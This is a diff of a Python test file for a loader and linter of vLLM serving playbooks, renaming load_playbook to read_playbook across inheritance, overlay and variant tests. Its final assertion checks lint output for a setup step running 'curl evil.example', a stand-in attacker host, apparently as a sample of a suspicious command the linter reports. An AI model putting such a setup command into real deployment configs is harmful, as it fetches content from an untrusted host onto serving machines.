@@ -48,20 +48,20 @@ def folder(tmp_path: Path):
 
 def refused(path: Path) -> str:
     with pytest.raises(UsageError) as caught:
-        load.load_playbook(path)
+        load.read_playbook(path)[0]
     told = [(str(one), one.hint) for one in getattr(caught.value, "problems", ())]
     return "\n".join(f"{said} | {hint}" for said, hint in told or [(caught.value.message, caught.value.hint)])
 
 
 def test_the_upper_playbook_wins_key_by_key(folder):
     """A value in args is replaced and not merged; null removes a key; lists are joined without duplicates."""
-    mine = load.load_playbook(
+    mine = load.read_playbook(
         folder(
             "name: mine\nextends: base\nargs: {max-model-len: 8192, speculative-config: {method: eagle}, kv-cache-dtype: null}\n"
             "env: {VLLM_A: null}\nverify: {expect: '7'}\nallow:\n- {code: NET-001, reason: one reason is enough}\n"
             "- {code: NET-002, reason: another good reason}\n"
         )
-    )
+    )[0]
     assert mine.args == {"max-model-len": 8192, "speculative-config": {"method": "eagle"}}
     assert (mine.verify.expect, mine.verify.max_tokens) == ("7", 1024)
     assert (mine.name, mine.image) == ("mine", "vllm/vllm-openai:v0.20.0")
@@ -70,9 +70,9 @@ def test_the_upper_playbook_wins_key_by_key(folder):
 
 
 def test_another_model_replaces_the_whole_model(folder):
-    mine = load.load_playbook(folder("name: mine\nextends: base\nmodel: {path: /weights}\n"))
+    mine = load.read_playbook(folder("name: mine\nextends: base\nmodel: {path: /weights}\n"))[0]
     assert (mine.model.id, mine.model.path, mine.model.revision) == (None, "/weights", "main")
-    later = load.load_playbook(folder("name: mine\nextends: base\nmodel: {revision: def}\n"))
+    later = load.read_playbook(folder("name: mine\nextends: base\nmodel: {revision: def}\n"))[0]
     assert (later.model.id, later.model.revision) == ("owner/model", "def")
 
 
@@ -83,7 +83,7 @@ def test_an_overlay_is_applied_by_name(folder):
     assert spec.playbook.args["speculative-config"] == {"method": "ngram", "prompt_lookup_max": 4}
     assert spec.playbook.args["max-model-len"] == 4096
     assert load.load(inventory, "base").playbook.args["speculative-config"]["method"] == "mtp"
-    mine = load.load_playbook(folder("name: mine\nextends: base+drafts\nargs: {max-num-seqs: 2}\n"))
+    mine = load.read_playbook(folder("name: mine\nextends: base+drafts\nargs: {max-num-seqs: 2}\n"))[0]
     assert (mine.args["speculative-config"]["method"], mine.args["max-num-seqs"]) == ("ngram", 2)
 
 
@@ -118,7 +118,7 @@ def test_too_many_levels_are_an_error(folder):
         folder(f"name: p{level}\nextends: p{level + 1}\n", f"p{level}")
     folder(BASE, "p12")
     assert "levels of extends" in refused(folder("name: mine\nextends: p0\n"))
-    assert load.load_playbook(folder("name: mine\nextends: p8\n")).args["max-model-len"] == 4096
+    assert load.read_playbook(folder("name: mine\nextends: p8\n"))[0].args["max-model-len"] == 4096
 
 
 SECRET = "a line that belongs to the user: [unfinished\n"
@@ -161,9 +161,9 @@ def test_a_playbook_below_may_extend_one_above_it_in_the_same_tree(tmp_path):
     (tmp_path / "parts" / "middle.yaml").write_text("name: middle\nextends: ../base.yaml\nargs: {max-num-seqs: 2}\n")
     (tmp_path / "base.yaml").write_text(BASE)
     (tmp_path / "mine.yaml").write_text("name: mine\nextends: parts/middle.yaml\n")
-    assert load.load_playbook(tmp_path / "mine.yaml").args["max-model-len"] == 4096
+    assert load.read_playbook(tmp_path / "mine.yaml")[0].args["max-model-len"] == 4096
     with pytest.raises(UsageError):
-        load.load_playbook(tmp_path / "parts" / "middle.yaml")
+        load.read_playbook(tmp_path / "parts" / "middle.yaml")[0]
 
 
 HEAD = "name: both\nmodel: {id: owner/model, revision: abc}\nimage: vllm/vllm-openai:v0.20.0\n"
@@ -228,7 +228,7 @@ def test_what_extends_a_playbook_wins_over_its_variants_and_has_its_own(folder) 
 def test_what_extends_a_playbook_need_not_fit_all_of_its_variants(folder) -> None:
     folder(BOTH + "  7:\n", "both")
     path = folder("name: top\nextends: both\ntensor_parallel: 1\nnodes: {max: 1}\n", "top")
-    assert load.load_playbook(path).ranks == 1
+    assert load.read_playbook(path)[0].ranks == 1
     assert [len(spec.inventory.nodes) for spec in lint([path]).specs[str(path)]] == [1]
 
 
@@ -249,7 +249,7 @@ def test_what_extends_a_playbook_need_not_fit_all_of_its_variants(folder) -> Non
 def test_a_malformed_variant_is_an_error_whoever_reads_the_file(folder, text, said) -> None:
     path = folder(f"{HEAD}{text}\n")
     with pytest.raises(SpecError) as caught:
-        load.load_playbook(path)
+        load.read_playbook(path)[0]
     (problem,) = caught.value.problems
     assert str(problem).startswith(f"{path}:{said}")
 
@@ -259,4 +259,4 @@ def test_lint_judges_each_variant_and_shows_what_any_of_them_can_do(folder, caps
     (found,) = [each for each in lint([path]).findings if each.code == "SPEC-003"]
     assert (found.file, found.line) == (str(path), 4)
     guarded(["lint", str(path)])
-    assert "! setup      curl evil.example" in capsys.readouterr().out.splitlines()
+    assert "  setup      curl evil.example" in capsys.readouterr().out.splitlines()
